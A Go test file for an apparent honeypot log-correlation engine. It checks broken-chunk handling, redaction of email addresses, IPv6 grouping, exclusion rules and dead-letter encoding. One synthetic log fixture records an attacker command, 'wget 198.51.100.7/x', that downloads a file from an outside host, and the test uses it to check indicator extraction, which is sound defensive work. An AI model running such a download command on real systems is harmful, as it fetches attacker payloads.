package correlate_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"dossier/correlate"
	"dossier/correlate/commit"
	"dossier/correlate/dialect"
	"dossier/correlate/event"
	"dossier/correlate/exclude"
	"dossier/plugin/chunk"
	"dossier/plugin/chunk/chunktest"
	"dossier/profile"
	"dossier/profile/rules"
	"dossier/testbed/memory"
)

var recordTime = time.Date(2026, 1, 8, 0, 0, 0, 0, time.UTC)

// bench is an engine over a store in memory.
type bench struct {
	store     *memory.Store
	engine    *correlate.Engine
	committer *commit.Committer
	broken    []correlate.Broken
	refuse    error // of BuryBroken
}

func newBench(t *testing.T, change func(*correlate.Options)) *bench {
	t.Helper()
	store := memory.New()
	b := newBenchOn(t, store, change)
	b.store = store
	return b
}

// builtin are the rules that come with the program, read once: that takes longer
// than most of what is tried with them.
var builtin = sync.OnceValues(func() (*rules.Set, error) { return rules.New(rules.Options{}) })

func newRenderer() (*profile.Renderer, error) {
	set, err := builtin()
	if err != nil {
		return nil, err
	}
	return profile.New(profile.Options{Rules: set})
}

// newBenchOn is newBench over another store.
func newBenchOn(t *testing.T, store interface {
	commit.Store
	commit.DeadLetters
}, change func(*correlate.Options),
) *bench {
	t.Helper()
	b := &bench{}
	ix := correlate.Indices{Prefix: "d"}
	renderer, err := newRenderer()
	if err != nil {
		t.Fatal(err)
	}
	b.committer, err = commit.New(commit.Options{
		// A chunk whose announcement outlived it would wait for itself.
		MachineOptions: commit.MachineOptions{Ledger: ix.Ledger, Gather: time.Hour}, Store: store, DeadLetters: store,
		Model: correlate.NewModel(correlate.ModelOptions{Renderer: renderer, Indices: ix, Activity: true, Transitions: true}),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = b.committer.Close(context.Background()) })
	parser, err := dialect.New(dialect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	o := correlate.Options{
		Committer: b.committer, Indices: ix, Parser: parser, Annotator: renderer, Sensor: "sensor-1", Activity: true,
		Decode: func(a *event.Arena, data []byte) correlate.Records { return chunk.NewDecoder(data, a) },
		BuryBroken: func(_ context.Context, br correlate.Broken) error {
			if b.refuse != nil {
				return b.refuse
			}
			br.Data = append([]byte(nil), br.Data...)
			b.broken = append(b.broken, br)
			return nil
		},
		CommitTimeout: 20 * time.Second,
	}
	if change != nil {
		change(&o)
	}
	if b.engine, err = correlate.New(o); err != nil {
		t.Fatal(err)
	}
	return b
}

func connect(address string, at time.Time) string {
	return fmt.Sprintf(`<134>1 %s decky-01 ssh - connect [relay@55555 src_ip="%s"]`, at.Format("2006-01-02T15:04:05.000000+00:00"), address)
}

func (b *bench) flush(t *testing.T, want correlate.Result, data []byte) {
	t.Helper()
	if got, err := b.engine.Flush(t.Context(), "tag", data); got != want {
		t.Fatalf("flush: %v, %v; want %v", got, err, want)
	}
}

func (b *bench) attacker(t *testing.T, id string) map[string]any {
	t.Helper()
	var doc map[string]any
	raw, ok := b.store.Documents("d-attackers")[id]
	if !ok {
		return nil
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	return doc
}

// A chunk that breaks off counts up to the break. The rest is saved with its
// offset before the chunk is acknowledged, and nothing counts twice when the
// saving fails and the chunk comes again.
func TestBrokenChunk(t *testing.T) {
	b := newBench(t, nil)
	whole := chunktest.Lines(recordTime, "log", connect("203.0.113.1", recordTime), connect("203.0.113.1", recordTime.Add(time.Second)))
	data := append(append([]byte(nil), whole...), 0x92, 0x92, 0xd7)
	b.refuse = errors.New("disk full")
	b.flush(t, correlate.Retry, data)
	b.refuse = nil
	b.flush(t, correlate.OK, data)
	if d := b.attacker(t, "203.0.113.1"); d["event_count"] != 2.0 {
		t.Errorf("event_count %v; want 2", d["event_count"])
	}
	if len(b.broken) != 1 || b.broken[0].Offset != len(whole) || string(b.broken[0].Data) != string(data[len(whole):]) {
		t.Errorf("saved %+v; want the %d bytes from %d", b.broken, len(data)-len(whole), len(whole))
	}
}

// A chunk without a single record is an error, but only after its bytes are
// saved.
func TestUndecodableChunk(t *testing.T) {
	b := newBench(t, nil)
	b.refuse = errors.New("disk full")
	b.flush(t, correlate.Retry, []byte{0xc1, 1, 2})
	b.refuse = nil
	b.flush(t, correlate.Error, []byte{0xc1, 1, 2})
	if len(b.broken) != 1 || string(b.broken[0].Data) != "\xc1\x01\x02" {
		t.Errorf("saved %+v", b.broken)
	}
}

// What is saved as it came holds no local part of a mail address.
func TestSavedBytesNameNobody(t *testing.T) {
	b := newBench(t, func(o *correlate.Options) { o.BuryUnparsed = true })
	data := chunktest.Lines(recordTime, "log", "nobody reads victim@example.com", connect("203.0.113.1", recordTime), `{"to":"victim@example.org"}`)
	broken := chunktest.Lines(recordTime, "log", "another victim@example.net")
	data = append(data, broken[:len(broken)-1]...)
	b.flush(t, correlate.OK, data)
	if len(b.broken) != 2 {
		t.Fatalf("%d letters, want the broken rest and the unparsed records", len(b.broken))
	}
	if b.broken[0].Unparsed || !b.broken[1].Unparsed {
		t.Error("what may be given up is not told apart")
	}
	for _, br := range b.broken {
		if s := string(br.Data); strings.Contains(s, "victim") || !strings.Contains(s, "******@example.") {
			t.Errorf("saved %q", s)
		}
	}
	s := b.engine.Stats()
	for reason, want := range map[dialect.Reason]string{
		dialect.UnknownShape: "fields log; 31 bytes of text", dialect.OK: "",
	} {
		if got := s.Samples[reason]; got != want {
			t.Errorf("the sample of %s is %q, want %q", reason, got, want)
		}
	}
	records := chunk.NewDecoder(b.broken[1].Data, new(event.Arena))
	for records.Next() {
	}
	if records.Records() != 2 || records.Err() != nil {
		t.Errorf("%d unparsed records can be read, %v; want 2", records.Records(), records.Err())
	}
}

func TestEmptyChunk(t *testing.T) {
	newBench(t, nil).flush(t, correlate.OK, nil)
}

func TestExcludedNets(t *testing.T) {
	b := newBench(t, func(o *correlate.Options) { o.ExcludeNets = []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")} })
	b.flush(t, correlate.OK, chunktest.Lines(recordTime, "log", connect("203.0.113.1", recordTime), connect("198.51.100.1", recordTime)))
	if b.attacker(t, "203.0.113.1") != nil || b.attacker(t, "198.51.100.1") == nil {
		t.Errorf("attackers: %v", b.store.Indices())
	}
	if s := b.engine.Stats(); s.Excluded != 1 || s.Events != 1 || s.Records != 2 {
		t.Errorf("stats %+v", s)
	}
}

// IPv6 sources are one attacker by their network; IPv4 ones stay apart, and
// the real addresses are kept.
func TestIPv6Prefix(t *testing.T) {
	b := newBench(t, func(o *correlate.Options) { o.IPv6Prefix = 64 })
	b.flush(t, correlate.OK, chunktest.Lines(recordTime, "log",
		connect("2001:db8::1", recordTime), connect("2001:db8::2", recordTime.Add(-time.Second)), connect("2001:db8:0:1::1", recordTime), connect("203.0.113.1", recordTime)))
	d := b.attacker(t, "2001:db8::/64")
	if d == nil || d["event_count"] != 2.0 {
		t.Fatalf("attackers: %v", b.store.Documents("d-attackers"))
	}
	indicator := d["threat"].(map[string]any)["indicator"].(map[string]any)
	if got := fmt.Sprint(indicator["ip"]); got != "[2001:db8::1 2001:db8::2]" {
		t.Errorf("threat.indicator.ip %s", got)
	}
	if n := len(b.store.Documents("d-attackers")); n != 3 {
		t.Errorf("%d attackers; want 3", n)
	}
}

// The activity of an event far from its record's time goes to the fixed
// index, whatever the wall clock says.
func TestStrayActivity(t *testing.T) {
	b := newBench(t, nil)
	b.flush(t, correlate.OK, chunktest.Lines(recordTime, "log",
		connect("203.0.113.1", recordTime.AddDate(-2, 0, 0)), connect("203.0.113.1", recordTime.AddDate(0, -3, 0))))
	ix := b.store.Indices()
	if ix["d-activity-other"] != 1 || ix["d-activity-2025.10"] != 1 {
		t.Errorf("indices %v", ix)
	}
}

// An attacker's events of one chunk come to their hours, in whatever order and
// with our own probes between them.
func TestActivityHours(t *testing.T) {
	b := newBench(t, nil)
	probe := fmt.Sprintf(`<134>1 %s decky-01 prober - jarm_fingerprint [relay@55555 target_ip="203.0.113.1" hash="x"]`, recordTime.Add(-time.Hour).Format(time.RFC3339))
	var lines []string
	want := map[string]float64{}
	for i, hour := range []int{1, 1, 0, 1, 1, 2, 2, 2, 1, 1, 1, 2, 0, 3, 1} { // 0 is a probe
		if hour == 0 {
			lines = append(lines, probe)
			continue
		}
		at := recordTime.Add(-time.Duration(hour)*time.Hour + time.Duration(i)*time.Minute)
		lines = append(lines, connect("203.0.113.1", at), connect("203.0.113.2", at))
		for _, address := range []string{"203.0.113.1", "203.0.113.2"} {
			want[address+"|"+at.Format("2006-01-02T15")]++
		}
	}
	b.flush(t, correlate.OK, chunktest.Lines(recordTime, "log", lines...))
	got := map[string]float64{}
	for id, raw := range b.store.Documents("d-activity-2026.01") {
		var doc struct{ Activity struct{ Events float64 } }
		if err := json.Unmarshal(raw, &doc); err != nil {
			t.Fatal(err)
		}
		got[id] = doc.Activity.Events
	}
	if !maps.Equal(got, want) {
		t.Errorf("events of the hours: %v, want %v", got, want)
	}
}

func TestNewRefuses(t *testing.T) {
	if _, err := correlate.New(correlate.Options{}); err == nil || !strings.Contains(err.Error(), "Committer") {
		t.Errorf("error %v", err)
	}
}

// What is buried comes back as the same parts.
func TestLettersRoundTrip(t *testing.T) {
	b := newBench(t, nil)
	rejected := rejecting{b.store}
	parser, err := dialect.New(dialect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	renderer, err := newRenderer()
	if err != nil {
		t.Fatal(err)
	}
	ix := correlate.Indices{Prefix: "d"}
	encoded := map[commit.Class][]json.RawMessage{}
	c, err := commit.New(commit.Options{
		MachineOptions: commit.MachineOptions{Ledger: ix.Ledger}, Store: &rejected,
		DeadLetters: buryFunc(func(letters []commit.Letter) error {
			for _, l := range letters {
				raw, err := correlate.EncodeDelta(l.Part.Delta)
				if err != nil {
					return err
				}
				encoded[l.Part.Class] = append(encoded[l.Part.Class], raw)
				if err := ix.CheckLetter(l.Part.Key, l.Part.Class, raw); err != nil {
					t.Error(err)
				}
			}
			return nil
		}),
		Model: correlate.NewModel(correlate.ModelOptions{Renderer: renderer, Indices: ix, Activity: true}),
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.Close(t.Context()) }()
	o := correlate.Options{
		Committer: c, Indices: ix, Parser: parser, Annotator: renderer, Sensor: "s", Activity: true,
		Decode:     func(a *event.Arena, data []byte) correlate.Records { return chunk.NewDecoder(data, a) },
		BuryBroken: func(context.Context, correlate.Broken) error { return nil },
	}
	e, err := correlate.New(o)
	if err != nil {
		t.Fatal(err)
	}
	line := `<134>1 2026-01-07T10:00:00+00:00 decky-06 smtp_relay - rcpt_to [relay@55555 src="203.0.113.9" value="<ceo@acme.com>"]`
	fetch := `<134>1 2026-01-07T10:00:00+00:00 decky-06 ssh - command [relay@55555 src="203.0.113.9" command="wget 198.51.100.7/x"]`
	if r, err := e.Flush(t.Context(), "tag", chunktest.Lines(recordTime, "log", line)); r != correlate.OK {
		t.Fatal(r, err)
	}
	shown := chunktest.Lines(recordTime, "log", fetch, strings.Replace(fetch, "113.9", "113.8", 1))
	if r, err := e.Flush(t.Context(), "tag", shown); r != correlate.OK {
		t.Fatal(r, err)
	}
	encoded[correlate.ClassAttacker], encoded[correlate.ClassActivity] = encoded[correlate.ClassAttacker][:1], encoded[correlate.ClassActivity][:1]
	if n := len(encoded[correlate.ClassIndicator]); n != 2 {
		t.Fatalf("%d letters of a URL and its host; want 2", n)
	}
	encoded[correlate.ClassIndicator] = encoded[correlate.ClassIndicator][:1]
	for _, class := range []commit.Class{correlate.ClassAttacker, correlate.ClassTarget, correlate.ClassActivity, correlate.ClassIndicator} {
		if len(encoded[class]) != 1 {
			t.Fatalf("class %d: %d letters; want 1", class, len(encoded[class]))
		}
		delta, err := correlate.DecodeDelta(class, encoded[class][0])
		if err != nil {
			t.Fatal(err)
		}
		again, err := correlate.EncodeDelta(delta)
		if err != nil {
			t.Fatal(err)
		}
		if string(again) != string(encoded[class][0]) {
			t.Errorf("class %d:\n%s\n%s", class, encoded[class][0], again)
		}
		if strings.Contains(string(again), "ceo") {
			t.Errorf("a local part in a dead letter: %s", again)
		}
	}
	// Networks, and times that a clock was wrong about.
	o.IPv6Prefix = 64
	if e, err = correlate.New(o); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{
		strings.Replace(line, "203.0.113.9", "2001:db8:1:2:3::9", 1), strings.Replace(line, "2026", "1999", 1), strings.Replace(line, "2026", "9999", 1),
	} {
		clear(encoded)
		if r, err := e.Flush(t.Context(), "tag", chunktest.Lines(recordTime, "log", line)); r != correlate.OK {
			t.Fatal(r, err)
		}
		if len(encoded) != 3 {
			t.Errorf("%d classes of letters of %s", len(encoded), line)
		}
	}
}

type buryFunc func([]commit.Letter) error

func (f buryFunc) Bury(_ context.Context, l []commit.Letter) error { return f(l) }

// rejecting rejects every document but markers.
type rejecting struct {
	*memory.Store
}

func (r *rejecting) Write(ctx context.Context, ops []commit.Op) ([]commit.Written, error) {
	out := make([]commit.Written, len(ops))
	for i := range ops {
		out[i] = commit.Written{Status: commit.Rejected, Reason: "document_parsing_exception"}
	}
	return out, nil
}

// TestExcludeRules: events that meet a rule are left out and counted by it, by
// the decoy's port as well, whoever tells it.
func TestExcludeRules(t *testing.T) {
	rules, err := exclude.Parse(`type=cowrie.session.connect port=2222; service=telnet; net=203.0.113.0/24 agent="kube probe*"`)
	if err != nil {
		t.Fatal(err)
	}
	b := newBench(t, func(o *correlate.Options) { o.Exclude = rules })
	const head = `{"src_ip": "203.0.113.7", "session": "a", "sensor": "d", "timestamp": "2026-11-26T10:00:00Z", "eventid": "cowrie.`
	data := chunktest.Lines(recordTime, "log",
		head+`session.connect", "protocol": "ssh", "dst_port": 2222}`,
		head+`session.connect", "protocol": "ssh", "dst_port": 22}`,
		strings.Replace(head, `"a"`, `"b"`, 1)+`login.failed", "username": "root"}`,
		strings.Replace(head, `"a"`, `"b"`, 1)+`session.connect", "protocol": "telnet", "dst_port": 2223}`,
	)
	b.flush(t, correlate.OK, data)
	s := b.engine.Stats()
	if s.Records != 4 || s.Events != 1 || s.Excluded != 3 || !slices.Equal(s.ExcludedBy, []int64{1, 2, 0}) {
		t.Errorf("records %d, events %d, excluded %d, by rule %v", s.Records, s.Events, s.Excluded, s.ExcludedBy)
	}
}
